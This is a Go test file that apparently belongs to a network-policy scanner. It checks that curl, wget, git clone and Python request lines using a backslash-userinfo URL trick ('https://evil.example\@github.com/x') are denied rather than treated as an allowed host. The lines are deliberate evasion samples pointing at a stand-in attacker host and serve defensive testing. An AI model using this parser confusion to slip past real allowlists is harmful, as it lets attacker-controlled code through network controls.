package engine_test

import "testing"

// TestBackslashUserinfoIsNotAllowed: "https://evil.com\@github.com/x"
// reaches evil.com in Node's fetch and browsers and github.com in curl, so
// no tool may treat it as the allowed github.com — end to end, through the
// analyzers, the network pack and the decision.
func TestBackslashUserinfoIsNotAllowed(t *testing.T) {
	scanAs := evalScanner(t)
	cases := []struct{ lang, content string }{
		{"bash", `curl -s 'https://evil.example\@github.com/x'`},
		{"bash", `wget -q 'https://evil.example\@pypi.org/simple/'`},
		{"bash", `git clone 'https://evil.example\@github.com/o/r.git'`},
		{"python", "import requests\nrequests.get('https://evil.example\\\\@github.com/x')"},
		{"python", "import urllib.request\nurllib.request.urlopen('https://evil.example\\\\@pypi.org/x')"},
	}
	for _, c := range cases {
		if got, ids := scanAs(c.lang, c.content); got != "deny" {
			t.Errorf("%q: got %s %v, want deny (a non-allowed host)", c.content, got, ids)
		}
	}
	// the same requests without the backslash reach the allowed host
	if got, ids := scanAs("bash", `curl -s 'https://user@github.com/x'`); got == "deny" {
		t.Errorf("userinfo without backslash: got deny %v", ids)
	}
}
